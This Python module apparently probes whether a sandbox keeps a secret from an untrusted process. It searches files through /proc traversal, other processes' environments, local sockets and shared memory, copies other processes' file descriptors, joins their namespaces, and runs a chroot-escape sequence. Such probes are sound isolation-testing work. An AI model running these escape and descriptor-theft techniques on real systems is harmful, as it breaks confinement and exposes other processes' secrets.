"""Fetches a secret that the host offers by file, environment, network, socket and shared memory.

First directly, then as root of nested namespaces, where more of the kernel can be asked. Only
reads: that it finds the secret is the whole proof.
"""

import contextlib
import ctypes
import multiprocessing
import os
import socket

CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWNET, CLONE_NEWPID = 0x20000, 0x10000000, 0x40000000, 0x20000000
MS_BIND, MS_REC = 4096, 16384
SYS_OPEN_TREE, SYS_PIDFD_OPEN, SYS_PIDFD_GETFD = 428, 434, 438
HIGHEST_PID = 400  # in a sandbox
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]


def processes():
    yield from ("self", "1", str(os.getppid()))
    with contextlib.suppress(OSError):
        yield from filter(str.isdigit, os.listdir("/proc"))


def from_path(routes):
    path = routes["path"]
    yield path
    for pid in processes():
        yield f"/proc/{pid}/root{path}"
        yield f"/proc/{pid}/cwd/../../../../../..{path}"
        for fd in range(64):
            yield f"/proc/{pid}/fd/{fd}/../../../../../..{path}"
            yield f"/proc/{pid}/fd/{fd}"
            yield f"/proc/{pid}/map_files"


def read_files(routes):
    for path in from_path(routes):
        with contextlib.suppress(OSError):
            fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
            yield os.read(fd, 4096)


def read_environments(routes):
    for pid in processes():
        with contextlib.suppress(OSError), open(f"/proc/{pid}/environ", "rb") as file:
            for entry in file.read().split(b"\0"):
                yield entry.partition(b"=")[2]
    yield os.environ.get(routes["variable"], "").encode()


def connect(family, address):
    with socket.socket(family, socket.SOCK_STREAM) as client:
        client.settimeout(0.5)
        client.connect(address)
        return client.recv(4096)


def read_sockets(routes):
    for family, address in (
        (socket.AF_INET, ("127.0.0.1", routes["port"])),
        (socket.AF_INET, ("0.0.0.0", routes["port"])),
        (socket.AF_INET6, ("::1", routes["port"])),
        (socket.AF_INET6, ("::ffff:127.0.0.1", routes["port"])),
        (socket.AF_UNIX, "\0" + routes["abstract"]),
        (socket.AF_UNIX, routes["socket_path"]),
        (getattr(socket, "AF_VSOCK", 40), (1, routes["port"])),
    ):
        with contextlib.suppress(OSError):
            yield connect(family, address)


def read_shared_memory(routes):
    address = libc.shmat(libc.shmget(routes["shared_memory_key"], 0, 0), None, 0o10000)
    if address not in (None, ctypes.c_void_p(-1).value):
        yield ctypes.string_at(address, 39)


def steal_descriptors(routes):
    for pid in filter(str.isdigit, processes()):
        handle = libc.syscall(SYS_PIDFD_OPEN, int(pid), 0)
        for number in range(64):
            with contextlib.suppress(OSError):
                fd = libc.syscall(SYS_PIDFD_GETFD, handle, number, 0)
                yield os.pread(fd, 4096, 0) if fd >= 0 else b""


def join_namespaces(routes):
    for pid in filter(str.isdigit, processes()):
        for name in ("user", "mnt", "net", "ipc", "pid"):
            with contextlib.suppress(OSError):
                libc.setns(os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY), 0)
    yield from direct(routes)


def nested_namespaces(routes):
    uid = os.getuid()
    apart = [
        libc.unshare(flags) == 0
        for flags in (CLONE_NEWUSER, CLONE_NEWNS, CLONE_NEWNET, CLONE_NEWPID)
    ]
    if not all(apart[:2]) and os.getpid() > HIGHEST_PID:  # these would be the host's own mounts
        return
    with contextlib.suppress(OSError), open("/proc/self/uid_map", "w") as file:
        file.write(f"0 {uid} 1")
    for kind in (b"proc", b"sysfs", b"tmpfs", b"devpts", b"cgroup2", b"overlay"):
        libc.mount(kind, b"/tmp", kind, 0, None)
        yield from read_files(routes | {"path": "/tmp/1/root" + routes["path"]})
    libc.mount(b"/", b"/tmp", None, MS_BIND | MS_REC, None)
    libc.umount2(b"/", 2)
    libc.syscall(SYS_OPEN_TREE, -100, b"/", 1 | 0x8000)
    root = os.open("/", os.O_RDONLY)
    os.makedirs("/tmp/deeper", exist_ok=True)
    os.chroot("/tmp/deeper")
    os.fchdir(root)
    os.chdir("../" * 60)
    yield from read_files(routes | {"path": routes["path"].lstrip("/")})
    os.chroot(".")
    yield from direct(routes)


def direct(routes):
    for source in (
        read_files,
        read_environments,
        read_sockets,
        read_shared_memory,
        steal_descriptors,
    ):
        with contextlib.suppress(OSError, AttributeError):
            yield from source(routes)


def search(source, routes, found):
    with contextlib.suppress(Exception):
        for text in source(routes):
            if text.startswith(b"answer-"):
                found.send_bytes(text[:39])
                return


def solve(routes):
    for source in (direct, join_namespaces, nested_namespaces):
        here, there = multiprocessing.Pipe()
        pid = os.fork()
        if not pid:
            search(source, routes, there)
            os._exit(0)
        os.waitpid(pid, 0)
        if here.poll():
            return here.recv_bytes().decode()
    return "nothing"
